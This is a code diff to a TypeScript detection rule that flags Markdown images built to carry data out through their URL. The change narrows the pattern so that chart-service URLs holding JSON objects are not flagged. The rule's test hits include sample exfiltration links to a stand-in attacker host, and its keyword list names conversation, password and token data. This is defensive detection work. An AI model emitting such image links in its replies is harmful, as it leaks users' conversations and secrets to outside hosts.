@@ -9,10 +9,11 @@ export const rules: readonly RuleSource[] = [
     reach: 300,
     why: "A Markdown image whose address would carry data out when it is loaded.",
     keywords: ["!["],
-    // The query carries a placeholder ({…}, [..], <…>, $…) or a word for the data that is to be filled in.
+    // The query carries a placeholder ({…}, [..], <…>, $…) or a word for the data that is to be filled in; an object
+    // with named fields is the description of a chart.
     pattern: exactly`
       !\[[^\]\n]{0,80}\]\(\s?https?:\/\/[^\s)]{3,120}[?&/][\w%-]{0,24}=?(?:
-        [{[<$]|%7b|%5b
+        (?:[{[<$]|%7b|%5b)(?!(?:["']|%22)?\w{1,20}(?:["']|%22)?(?:%3a|:))
         |(?:
           data|secret|conversation|chat|history|summary|base64|prompt|user_?data|api_?key|password|token
           |leak|exfil
@@ -20,7 +21,12 @@ export const rules: readonly RuleSource[] = [
       )[^)\n]{0,80}\)?
     `,
     hits: ["![x](https://evil.example.com/p.png?d={data})", "![a](http://e.example/log?q=[conversation])"],
-    misses: ["![logo](https://example.com/logo.png)", "![chart](https://example.com/c.png?w=200)"],
+    misses: [
+      "![logo](https://example.com/logo.png)",
+      "![chart](https://example.com/c.png?w=200)",
+      "![sales](https://charts.example.com/chart?c=%7Btype%3A'bar'%2Cdata%3A%7Blabels%3A%5B'Q1'%5D%7D%7D)",
+      "![parts](https://charts.example.com/chart?c=%7B%22type%22%3A%22pie%22%7D)",
+    ],
   },
   {
     id: "leakage/data-in-query",
